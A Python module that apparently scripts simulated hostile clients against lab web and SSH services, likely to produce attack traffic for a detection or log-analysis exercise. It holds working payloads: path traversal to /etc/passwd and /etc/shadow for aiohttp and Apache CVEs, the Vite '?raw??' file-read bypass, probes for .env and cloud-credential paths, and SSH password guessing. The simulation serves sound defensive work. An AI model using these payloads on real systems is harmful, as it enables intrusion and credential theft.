"""What hostile and prying clients do: each function is the whole appearance of one of them."""

from __future__ import annotations

import asyncio
from pathlib import Path
from random import Random

from .client import Aim, Client

AIOHTTP_TRAVERSAL = "CVE-2024-23334"
VITE_RAW = "CVE-2025-30208"
LOG4SHELL = "CVE-2021-44228"
HTTPD_TRAVERSAL = "CVE-2021-41773"

ACCOUNTS = "/etc/passwd"
HASHES = "/etc/shadow"

NAMES = Path(__file__).with_name("names_scanned.txt").read_text().split()
ENDINGS = ("", "/", ".php", ".bak", ".zip")
SECRETS = (
    "/.env",
    "/.git/config",
    "/.aws/credentials",
    "/wp-login.php",
    "/actuator/env",
    "/boaform/admin/formLogin",
)

SCANNED_TRAVERSALS = (
    ("nginx", "/../../../../etc/passwd", HTTPD_TRAVERSAL),
    ("nginx", "/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd", HTTPD_TRAVERSAL),
    ("nginx", "/icons/.%2e/%2e%2e/%2e%2e/etc/passwd", HTTPD_TRAVERSAL),
    ("aiohttp", "/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd", HTTPD_TRAVERSAL),
    ("aiohttp", "/../../../../etc/passwd", HTTPD_TRAVERSAL),
    ("aiohttp", "/static/../etc/passwd", AIOHTTP_TRAVERSAL),
)
"""What the scanner tries in passing: none of it fits the server it is sent to, or it stops short of the root."""


async def scan_widely(client: Client, chance: Random) -> None:
    """A noisy scanner: hundreds of names on the web site and the application, some stale exploits between."""
    names = [f"/{word}{ending}" for word in NAMES for ending in ENDINGS]
    asked: list[tuple[str, str, str | None]] = [("nginx", name, None) for name in (*names, *SECRETS)]
    asked += [("aiohttp", name, None) for name in (*names[::2], *SECRETS, "/static/", "/static/css/")]
    chance.shuffle(asked)
    places = chance.sample(range(len(asked)), len(SCANNED_TRAVERSALS))
    for place, traversal in zip(places, SCANNED_TRAVERSALS, strict=True):
        asked.insert(place, traversal)
    for service, target, exploit in asked:
        await client.get(service, target, aim=Aim(exploit, ACCOUNTS) if exploit else None)
        await asyncio.sleep(chance.uniform(0.05, 0.25))


async def read_accounts_of_the_application(client: Client, chance: Random) -> None:
    """Attack A: a look around, two paths that stop short, then the accounts; with their names it knocks at ssh.

    The file of passwords, which the application may not read, makes aiohttp drop the connection: no log tells.
    """
    for target in ("/", "/static/css/app.css", "/static/"):
        await client.get("aiohttp", target)
        await asyncio.sleep(chance.uniform(0.5, 1.5))
    for climb in ("/..", "/../..", "/../../../.."):
        await client.get("aiohttp", f"/static{climb}{ACCOUNTS}", aim=Aim(AIOHTTP_TRAVERSAL, ACCOUNTS))
        await asyncio.sleep(chance.uniform(1, 2))
    await client.get("aiohttp", f"/static/../../../..{HASHES}", aim=Aim(AIOHTTP_TRAVERSAL, HASHES))
    await asyncio.sleep(8)
    for user in ("mvogel", "tlund"):
        await client.log_in(user, [user, f"{user}2026"])


async def knock_at_the_dev_server(client: Client, chance: Random) -> None:
    """Attack B: it has heard of the hole in vite, and not how it goes: every answer is a refusal."""
    for file in (ACCOUNTS, "/etc/group", "/etc/hosts", "/etc/hostname"):
        for query in ("", "?raw", "?import&raw"):
            await client.get("vite", f"/@fs{file}{query}", aim=Aim(VITE_RAW, file))
            await asyncio.sleep(chance.uniform(0.5, 2))


async def read_files_of_the_dev_server(client: Client, chance: Random) -> None:
    """Attack C: one plain try, refused, then with the two question marks that let files out.

    The last file is one that vite itself may not read: its answer is an error of its own, 500.
    """
    await client.get("vite", "/")
    await client.get("vite", "/@vite/client")
    wanted = (
        (ACCOUNTS, ""),
        (ACCOUNTS, "?raw??"),
        (ACCOUNTS, "?import&raw??"),
        ("/srv/dev/.env", "?raw??"),
        (HASHES, "?raw??"),
    )
    for file, query in wanted:
        await asyncio.sleep(chance.uniform(1, 3))
        await client.get("vite", f"/@fs{file}{query}", aim=Aim(VITE_RAW, file))


async def climb_at_the_wrong_door(client: Client, chance: Random) -> None:
    """Attack D: the hole of aiohttp, tried on nginx, which refuses it."""
    for climb in ("/../..", "/../../../..", "/..%2f..%2f..%2f.."):
        await client.get("nginx", f"/static{climb}{ACCOUNTS}", aim=Aim(AIOHTTP_TRAVERSAL, ACCOUNTS))
        await asyncio.sleep(chance.uniform(1, 3))


async def call_java(client: Client, chance: Random) -> None:
    """A Log4Shell string in the User-Agent, on a web site that runs no Java."""
    for target in ("/", "/index.html"):
        await client.get("nginx", target, aim=Aim(LOG4SHELL))
        await asyncio.sleep(chance.uniform(2, 4))


async def grab_banners(client: Client, chance: Random) -> None:
    """A scanner for research: what answers here, and in which version? Nothing more."""
    for _ in range(2):
        await client.grab_banner("sshd")
        await client.get("nginx", "/", method="HEAD")
        await asyncio.sleep(chance.uniform(20, 40))


async def look_at_the_application(client: Client, chance: Random) -> None:
    """One of several addresses of a listed network, with a few idle questions and no exploit."""
    for target in ("/", "/api/orders", "/admin", "/.env"):
        await client.get("aiohttp", target)
        await asyncio.sleep(chance.uniform(2, 9))


async def guess_passwords(client: Client, chance: Random) -> None:
    """A brute-forcer: usual names, usual passwords, three to a connection."""
    users = ("root", "admin", "ubuntu", "oracle", "postgres", "deploy", "test", "git")
    for user in users * 2:
        await client.log_in(user, [f"{user}123", "changeme", "P@ssw0rd"])
        await asyncio.sleep(chance.uniform(0.5, 2))
